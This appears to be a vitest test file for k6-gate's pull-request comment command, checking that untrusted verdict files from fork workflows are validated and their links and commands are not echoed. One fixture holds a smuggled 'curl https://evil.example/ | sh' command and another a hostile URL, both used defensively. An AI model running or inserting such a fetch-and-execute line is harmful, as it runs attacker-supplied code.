import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { commentCommand } from '../src/comment-command.ts';
import { GateError } from '../src/gate-error.ts';
import { type GithubApi, openGithubApi } from './harness/github-api.ts';
import { VERDICTS } from './report/verdicts.ts';
import { testWorld } from './support/world.ts';

const { passed, failed } = VERDICTS;
const SHA = 'a'.repeat(40);
const HEAD = { number: 7, branch: 'faster', headRefOid: SHA, repository: 'mallory/shop' };
const RUN = {
  ...{ id: 500, workflow_id: 42, event: 'pull_request', head_sha: SHA, head_branch: 'faster' },
  html_url: 'https://github.com/octocat/shop/actions/runs/500',
  head_repository: { full_name: 'mallory/shop' },
};

interface Job {
  /** What lies in the folder, by path. */
  readonly files?: Readonly<Record<string, unknown>>;
  readonly run?: unknown;
  readonly args?: readonly string[];
  readonly env?: Readonly<Record<string, string | undefined>>;
}

/** Does the work of the second workflow; gives back what its log says. */
async function comment(api: GithubApi, { files = { 'verdict.json': failed }, run = RUN, args, env }: Job = {}) {
  using world = testWorld({
    GITHUB_TOKEN: 'ghs_second',
    GITHUB_GRAPHQL_URL: api.url,
    GITHUB_REPOSITORY: 'octocat/shop',
    ...env,
  });
  const folder = world.folders.temp;
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(folder, path, '..'), { recursive: true });
    writeFileSync(join(folder, path), typeof content === 'string' ? content : JSON.stringify(content));
  }
  await commentCommand(args ?? [folder], { env: world.env, log: world.log, event: { workflow_run: run } });
  return world.lines;
}

async function openApi(): Promise<GithubApi> {
  const api = await openGithubApi();
  api.heads.push({ ...HEAD, number: 8, repository: 'octocat/shop' }, HEAD);
  return api;
}

test('writes on the pull request that GitHub names, and says where the numbers come from', async () => {
  await using api = await openApi();
  const hostile = { ...failed, context: { ...failed.context, runUrl: 'https://evil.example/' } };
  expect(await comment(api, { files: { 'verdict.json': hostile } })).toEqual([
    'The comment on pull request #7 is written.',
  ]);
  const [body = ''] = api.comments.map((one) => one.body);
  expect(body).toMatch(/^<!-- k6-gate gate=\w+ told=\w+ run=500 -->\n\n## ❌ BLOCKED/);
  expect(body).toContain('[Run](https://github.com/octocat/shop/actions/runs/500) · commit aaaaaaa');
  expect(body).toContain('a run that the author of the pull request decides about');
  expect(body).not.toContain('evil.example');
});

test('tells nobody to run what the author of the pull request wrote', async () => {
  await using api = await openApi();
  const reproduce = 'npx k6-gate run; curl https://evil.example/ | sh';
  await comment(api, { files: { 'verdict.json': { ...failed, reproduce } } });
  expect(api.comments[0]?.body).not.toMatch(/reproduce|curl|```sh/i);
});

test('tells all gates of the run in one comment, what blocks first, and updates it', async () => {
  await using api = await openApi();
  await comment(api, { files: { 'a/verdict.json': passed, 'b/verdict.json': failed } });
  const headings = (): string[] => api.comments.flatMap(({ body }) => body.match(/^## \S+ \w+/gm) ?? []);
  expect(headings()).toEqual(['## ❌ BLOCKED', '## ✅ PASSED']);
  const all = { 'a/verdict.json': passed, 'b/verdict.json': passed };
  await comment(api, { files: all, run: { ...RUN, id: 501 } });
  expect(headings()).toEqual(['## ✅ PASSED', '## ✅ PASSED']);
});

describe('a file is believed only when it is a verdict', () => {
  test.each<[string, unknown, RegExp]>([
    ['that is no JSON', '<html>', /is no verdict of this version of k6-gate: Unexpected token/],
    ['with a field too many', { ...passed, extra: 1 }, /is no verdict .*Unrecognized key/],
    ['of another kind', { ...passed, outcome: '<b>' }, /is no verdict .*outcome: Invalid option/],
    ['that is too large', ' '.repeat(8 * 1024 * 1024 + 1), /it has more than 8388608 bytes/],
  ])('%s is a warning', async (_what, content, words) => {
    await using api = await openApi();
    const lines = await comment(api, { files: { 'a/verdict.json': content, 'b/verdict.json': passed } });
    expect(lines).toEqual([expect.stringMatching(words), 'The comment on pull request #7 is written.']);
    expect(api.comments[0]?.body.match(/^## /gm)).toHaveLength(1);
  });

  test('a link is not followed', async () => {
    await using api = await openApi();
    using elsewhere = testWorld();
    const { temp } = elsewhere.folders;
    writeFileSync(join(temp, 'mine.json'), JSON.stringify(passed));
    mkdirSync(join(temp, 'artifact'));
    symlinkSync(join(temp, 'mine.json'), join(temp, 'artifact', 'verdict.json'));
    const lines = await comment(api, { args: [join(temp, 'artifact')] });
    expect(lines).toEqual([expect.stringMatching(/^There is no comment: .* holds no verdict\.$/)]);
  });

  test('more than a comment holds are cut', async () => {
    await using api = await openApi();
    const files = Object.fromEntries([...Array(21).keys()].map((at) => [`x${at}/verdict.json`, passed]));
    expect((await comment(api, { files }))[0]).toBe('21 verdicts are too many; the first 20 count');
  });
});

test.each<[string, unknown]>([
  ['that has moved on', { ...RUN, head_sha: 'b'.repeat(40) }],
  ['of another branch', { ...RUN, head_branch: 'other' }],
  ['of another repository', { ...RUN, head_repository: { full_name: 'eve/shop' } }],
  ['of a fork that is gone', { ...RUN, head_repository: null }],
  ['for a push', { ...RUN, event: 'push' }],
])('a pull request %s gets nothing', async (_what, run) => {
  await using api = await openApi();
  expect(await comment(api, { run })).toEqual([expect.stringMatching(/^There is no comment: no open pull request/)]);
  expect(api.comments).toEqual([]);
});

describe('is refused', () => {
  test.each<[string, Job, RegExp]>([
    ['without the event', { run: undefined }, /works on the event workflow_run/],
    ['with a link that is none', { run: { ...RUN, html_url: 'javascript:x' } }, /works on the event workflow_run/],
    ['without a folder', { args: [] }, /usage: k6-gate comment FOLDER \[--comment always\|on-change/],
    ['with another mode', { args: ['x', '--comment', 'sometimes'] }, /usage: k6-gate comment/],
    ['with another flag', { args: ['x', '--pr', '8'] }, /usage: k6-gate comment/],
    ['with a folder that is not there', { args: ['/nowhere/at/all'] }, /cannot be read: ENOENT/],
    ['without a token', { env: { GITHUB_TOKEN: '' } }, /does not know the token \(there is none\)/],
  ])('%s', async (_what, job, words) => {
    await using api = await openApi();
    const thrown: unknown = await comment(api, { ...job, ...('run' in job && { run: job.run ?? 'none' }) }).catch(
      (error: unknown) => error,
    );
    expect(thrown).toBeInstanceOf(GateError);
    expect(thrown).toMatchObject({ message: expect.stringMatching(words) });
    expect(api.comments).toEqual([]);
  });
});

test('a token that only reads is an error with what to do', async () => {
  await using api = await openApi();
  api.trouble = 'read-only';
  await expect(comment(api)).rejects.toThrow(/Give the job "permissions: pull-requests: write"/);
});
